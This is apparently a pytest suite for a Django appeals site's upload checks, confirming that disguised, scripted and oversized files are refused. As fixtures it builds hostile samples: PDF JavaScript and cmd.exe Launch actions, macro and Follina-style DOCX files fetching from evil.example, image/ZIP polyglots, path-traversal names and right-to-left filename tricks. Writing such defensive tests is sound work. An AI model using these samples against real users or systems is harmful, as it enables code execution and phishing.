"""Uploads that are not what they claim, or carry something that runs, are refused.

Every file goes through the real appeal form (the API and the answer form call the same
rules); the page says, in the reader's language, which file is refused and why.
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from PIL import Image

from appeals.attachments import clean_upload
from appeals.models import Appeal, Attachment
from tests.conftest import People, client_for
from tests.files import pdf
from tests.security.helpers import appeal_form

pytestmark = pytest.mark.django_db
NEW = reverse("appeals:new")


@pytest.fixture(autouse=True)
def _media_of_this_test(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"  # megabytes of test files do not pile up


PLAIN_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


# --- Files, made in memory -------------------------------------------------------------------


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def a_pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj%s endobj\n" % (n, obj) for n, obj in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def object_stream(*objects: bytes) -> bytes:
    """PDF 1.5 object stream: dictionaries packed and compressed, invisible to a byte search."""
    offsets, body = [], b""
    for number, obj in enumerate(objects, 10):
        offsets.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    header = b" ".join(offsets) + b"\n"
    packed = zlib.compress(header + body)
    return b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
        len(objects), len(header), len(packed), packed,
    )  # fmt: skip


def a_zip(files: dict[str, bytes], stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org'
    b'/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>",
    "word/document.xml": b"<w:document><w:body><w:p>Letter</w:p></w:body></w:document>",
}


def a_docx(extra: dict[str, bytes] | None = None) -> bytes:
    return a_zip({**DOCX_PARTS, **(extra or {})})


def a_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (30, 30, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
MACRO_TYPES = (
    DOCX_PARTS["[Content_Types].xml"]
    .replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    .replace(b"wordprocessingml.document.macroEnabled", b"ms-word.document.macroEnabled")
)
EXTERNAL_TEMPLATE = (
    b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
FOLLINA = EXTERNAL_TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(
    b"t.dotm", b"x.html!"
)

REFUSED = {
    # name: (file name, content, what the message says, in English)
    "png-named-pdf": ("scan.pdf", None, "is a PNG file under another name"),
    "pdf-named-jpg": ("photo.jpg", PLAIN_PDF, "is a PDF file under another name"),
    "svg-with-script": ("map.svg", SVG, "is not a PDF, JPEG, PNG or DOCX file"),
    "svg-named-png": ("map.png", SVG, "is not a PDF, JPEG, PNG or DOCX file"),
    "html-named-pdf": ("scan.pdf", HTML, "is not a PDF, JPEG, PNG or DOCX file"),
    "pdf-header-then-html": (
        "scan.pdf", b"%PDF-1.4\n" + HTML + b"\n" + PLAIN_PDF[9:], "contains scripts or actions",
    ),
    "pdf-javascript-on-opening": (
        "scan.pdf",
        a_pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/JavaScript/JS(app.alert(1))>>"),
        "contains scripts or actions",
    ),
    "pdf-document-javascript": (
        "scan.pdf",
        a_pdf(b"<</Type/Catalog/Names<</JavaScript 2 0 R>>>>", b"<</Names[(a) 3 0 R]>>",
              b"<</S/JavaScript/JS(this.exportDataObject({cName:'x', nLaunch:2}))>>"),
        "contains scripts or actions",
    ),
    "pdf-escaped-name": (
        "scan.pdf", a_pdf(b"<</Type/Catalog/AA<</O<</S/J#61va#53cript/JS(1)>>>>>>"),
        "contains scripts or actions",
    ),
    "pdf-javascript-in-object-stream": (
        "scan.pdf",
        a_pdf(b"<</Type/Catalog/OpenAction[3 0 R /Fit]>>",
              object_stream(b"<</Type/Annot/A<</S/JavaScript/JS(app.alert(1))>>>>")),
        "contains scripts or actions",
    ),
    "pdf-launch": (
        "scan.pdf", a_pdf(b"<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        "contains scripts or actions",
    ),
    "pdf-javascript-url": (
        "scan.pdf", a_pdf(b"<</Type/Annot/A<</S/URI/URI(javascript:alert(1))>>>>"),
        "contains scripts or actions",
    ),
    "pdf-that-is-a-zip": (
        "scan.pdf", PLAIN_PDF + a_zip({"index.html": HTML}),
        "a PDF and an archive at the same time",
    ),
    "pdf-that-is-a-docx": (
        "scan.pdf", PLAIN_PDF + a_docx(), "a PDF and an archive at the same time",
    ),
    "docx-that-is-a-pdf": (
        "letter.docx", a_zip({"a.pdf": PLAIN_PDF, **DOCX_PARTS}, stored=True),
        "a PDF and an archive at the same time",
    ),
    "pdf-encrypted-with-packed-objects": (
        "scan.pdf",
        a_pdf(b"<</Type/Catalog>>", b"<</Type/ObjStm/N 1/First 4/Length 3>>stream\nxyz\nendstream",
              b"<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4>>").replace(
            b"trailer<<", b"trailer<</Encrypt 3 0 R"),
        "is encrypted",
    ),
    "docx-with-macro": (
        "letter.docx", a_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "contains macros",
    ),
    "docm-renamed-docx": (
        "letter.docx", a_docx({"[Content_Types].xml": MACRO_TYPES}), "contains macros",
    ),
    "docx-with-external-template": (
        "letter.docx", a_docx({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "contains macros",
    ),
    "docx-follina": (
        "letter.docx", a_docx({"word/_rels/document.xml.rels": FOLLINA}), "contains macros",
    ),
}  # fmt: skip


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def send(client: Client, *files: SimpleUploadedFile) -> list[str]:
    """The appeal form with these files; the messages of the attachments field."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.post(NEW, appeal_form(attachments=list(files)))
    if response.status_code == 302:
        return []
    assert response.status_code == 200
    assert response.context["files_to_attach_again"]
    return [str(message) for message in response.context["form"].errors["attachments"]]


@pytest.mark.parametrize("case", REFUSED)
def test_it_refuses_with_a_message_naming_the_file(people: People, case: str) -> None:
    name, content, says = REFUSED[case]
    messages = send(client_for(people.citizen), upload(name, content or png_bytes()))
    assert len(messages) == 1 and name in messages[0] and says in messages[0], messages
    assert not Appeal.objects.exists()
    assert not Attachment.objects.exists()


def test_the_message_comes_in_the_readers_language(people: People) -> None:
    client = client_for(people.citizen)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ru"
    response = client.post(NEW, appeal_form(attachments=[upload("map.png", SVG)]))
    with translation.override("ru"):
        expected = clean_upload_error(upload("map.png", SVG))
    assert [str(m) for m in response.context["form"].errors["attachments"]] == [expected]
    assert "PDF, JPEG, PNG" in expected and "not a PDF" not in expected  # it is Russian


def clean_upload_error(file: SimpleUploadedFile) -> str:
    from django.core.exceptions import ValidationError

    try:
        clean_upload(file)
    except ValidationError as error:
        return error.messages[0]
    raise AssertionError("accepted")


def test_an_oversized_file_is_refused(people: People) -> None:
    messages = send(client_for(people.citizen), pdf("big.pdf", size=10 * 1024 * 1024))
    assert messages == ["“big.pdf” is larger than 10 MB."]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("scan.pdf", PLAIN_PDF),
        # What office suites write: the first view as a destination array, compressed pages.
        ("scan.pdf", a_pdf(b"<</Type/Catalog/OpenAction [3 0 R /XYZ null null 0]>>",
                           object_stream(b"<</Type/Page/Contents 5 0 R>>"))),
        ("letter.docx", a_docx()),
        ("photo.jpg", a_jpeg()),
    ],
    ids=["pdf", "pdf-with-first-view-and-object-stream", "docx", "jpeg"],
)  # fmt: skip
def test_plain_files_are_accepted(people: People, name: str, content: bytes) -> None:
    assert send(client_for(people.citizen), upload(name, content)) == []
    assert Attachment.objects.get().original_name == name


def test_nine_megabytes_of_compressed_bytes_raise_no_false_alarm(people: People) -> None:
    """Short PDF names (/JS, /AA) turn up by chance in compressed data; none is looked for."""
    noise = random.Random(8).randbytes(9 * 1024 * 1024)
    scan = a_pdf(b"<</Type/Catalog>>", b"<</Length %d>>stream\n%s\nendstream" % (len(noise), noise))
    assert b"/JS" in scan or b"/AA" in scan  # the chance the check must not trip on
    assert send(client_for(people.citizen), upload("scan.pdf", scan)) == []


@pytest.mark.parametrize(
    ("name", "image"), [("photo.jpg", a_jpeg()), ("photo.png", png_bytes())], ids=["jpeg", "png"]
)
def test_an_archive_hidden_behind_an_image_is_dropped(
    people: People, name: str, image: bytes
) -> None:
    """GIFAR-style: an image that is also a ZIP. Re-encoding keeps the picture only."""
    polyglot = image + a_zip({"index.html": HTML, "evil.class": b"\xca\xfe\xba\xbe"})
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    assert send(client_for(people.citizen), upload(name, polyglot)) == []
    stored = Attachment.objects.get().file.read()
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert b"PK\x03\x04" not in stored and b"<script>" not in stored
    assert Image.open(io.BytesIO(stored)).size == (40, 30)


def test_a_path_in_the_name_is_dropped_and_the_file_stays_in_media(people: People) -> None:
    """Browsers send a bare name; a crafted "../../x.pdf" (cut by Django's parser already, and
    again by ours) never chooses where the file goes: it is kept under a random name."""
    escape = Path(settings.MEDIA_ROOT).parent.parent / "x.pdf"
    assert send(client_for(people.citizen), upload("../../x.pdf", PLAIN_PDF)) == []
    attachment = Attachment.objects.get()
    assert attachment.original_name == "x.pdf"
    stored = Path(attachment.file.path).resolve()
    assert stored.parent == (Path(settings.MEDIA_ROOT) / "attachments").resolve()
    assert stored.name != "x.pdf" and not escape.exists()
    # The rule itself, without Django's parser in front of it.
    for crafted in ("../../x.pdf", "..\\..\\x.pdf", "/etc/x.pdf", "C:\\x.pdf"):
        assert clean_upload(upload(crafted, PLAIN_PDF)).name == "x.pdf"


# --- Nothing reachable by a guessed address ----------------------------------------------


@pytest.fixture
def attachment(people: People) -> Attachment:
    client_for(people.citizen).post(NEW, appeal_form(attachments=[upload("scan.pdf", PLAIN_PDF)]))
    return Attachment.objects.get()


def test_media_files_have_no_public_address(client: Client, attachment: Attachment) -> None:
    name = attachment.file.name
    assert Path(settings.MEDIA_ROOT, name).is_file()
    for guess in (f"/media/{name}", f"/{name}", f"/static/{name}", f"/static/../media/{name}",
                  f"/static/%2e%2e/media/{name}"):  # fmt: skip
        response = client.get(guess)
        assert response.status_code == 404, guess
        assert PLAIN_PDF not in b"".join(getattr(response, "streaming_content", [response.content]))


@pytest.mark.parametrize(
    ("who", "status"),
    [(None, 302), ("other_citizen", 404), ("other_agency_head", 404), ("citizen", 200)],
)
def test_the_download_address_serves_only_those_who_may_see_the_appeal(
    people: People, attachment: Attachment, who: str | None, status: int
) -> None:
    client = client_for(getattr(people, who)) if who else Client()
    response = client.get(reverse("appeals:attachment", args=[attachment.pk]))
    assert response.status_code == status
    if status == 302:
        assert response["Location"].startswith(reverse("accounts:login"))
    if status == 200:
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"


def test_a_long_name_keeps_its_extension() -> None:
    clean = clean_upload(upload("отчёт " * 60 + ".pdf", PLAIN_PDF))
    assert len(clean.name) <= 200
    assert clean.name.endswith(".pdf")


@pytest.mark.parametrize("control", ["\u202e", "\u202d", "\u2066", "\u200f", "\u061c"])
def test_direction_controls_leave_the_name(control: str) -> None:
    # "x‮fdp.exe" would show as "xexe.pdf" in a right-to-left aware list.
    clean = clean_upload(upload(f"invoice{control}gpj.pdf", PLAIN_PDF))
    assert clean.name == "invoicegpj.pdf"
